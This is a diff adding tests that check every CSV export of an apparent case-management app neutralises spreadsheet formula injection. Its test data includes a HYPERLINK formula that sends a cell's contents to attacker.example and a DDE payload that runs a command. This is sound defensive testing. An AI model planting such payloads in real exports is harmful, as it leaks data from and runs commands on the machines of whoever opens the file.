@@ -64,3 +64,63 @@ def test_exports_follow_the_case_rules(api, web, ctx):
     assert api("officer").get(f"/api/v1/case/{restricted}/export?format=csv").status_code == 404
     page = web("officer").get(f"/cases/{case_id}/export?format=csv")
     assert page.status_code == 200 and page.mimetype == "text/csv"
+
+
+# --- formula injection: every CSV the product writes ---------------------------------------------------------------
+
+# Words staff type, each starting as a spreadsheet formula would (OWASP's list: = + - @ tab CR).
+FORMULAS = ('=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
+            "\t=1+1", "\r=1+1")
+DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cells(content: bytes) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
+
+
+def assert_spreadsheet_safe(content: bytes) -> None:
+    cells = csv_cells(content)
+    assert not [cell for cell in cells if cell.startswith(DANGEROUS_STARTS)]
+    for formula in FORMULAS[:4]:  # kept, behind the apostrophe, for the reader (the page strips leading space)
+        assert any(cell.startswith("'" + formula) for cell in cells), formula
+
+
+def test_every_csv_export_neutralises_cells_a_spreadsheet_would_run(api, web, ctx):
+    from datetime import date
+    case_id = make_case("staff", subject={"full_name": "Formula Subject", "subject_type": "learner",
+                                          "programme": FORMULAS[0]})
+    officer = api("officer")
+    for formula in FORMULAS:  # each a whole cell of the chronology: the note's text is its reason column
+        response = officer.post(f"/api/v1/case/{case_id}/notes", json={"kind": "note", "text": formula, "source": formula})
+        assert response.status_code == 201, response.get_json()
+    exports = {
+        "case page": web("officer").get(f"/cases/{case_id}/export?format=csv"),
+        "case page, redacted": web("officer").get(f"/cases/{case_id}/export?format=csv&redact_staff=true"),
+        "case API": officer.get(f"/api/v1/case/{case_id}/export?format=csv"),
+        "case API, redacted": officer.get(f"/api/v1/case/{case_id}/export?format=csv&redact_staff=true"),
+    }
+    for name, response in exports.items():
+        assert response.status_code == 200 and response.mimetype == "text/csv", name
+        assert_spreadsheet_safe(response.data)
+    today = date.today().isoformat()
+    report = web("lead").get(f"/reports/board?from={today}&to={today}&format=csv")
+    assert report.status_code == 200 and report.mimetype == "text/csv"
+    cells = csv_cells(report.data)
+    assert "'" + FORMULAS[0] in cells  # the programme's name, a row of "By programme"
+    assert not [cell for cell in cells if cell.startswith(DANGEROUS_STARTS)]
+
+
+def test_spreadsheet_safe_prefixes_exactly_the_formula_starts():
+    from app.exports import spreadsheet_safe
+    for formula in FORMULAS:
+        assert spreadsheet_safe(formula) == "'" + formula
+    for harmless in ("Concern text", "2026-12-01T10:00:00+00:00", "Staff member 1", "", "'quoted", " =spaced"):
+        assert spreadsheet_safe(harmless) == harmless
+
+
+def test_every_csv_goes_through_the_one_safe_writer():
+    """A new export written with its own csv.writer would skip the neutralising: only app/exports.py writes CSV."""
+    from pathlib import Path
+    writers = [str(path) for path in Path("app").rglob("*.py") if "csv.writer(" in path.read_text()
+               or "DictWriter(" in path.read_text()]
+    assert writers == ["app/exports.py"]
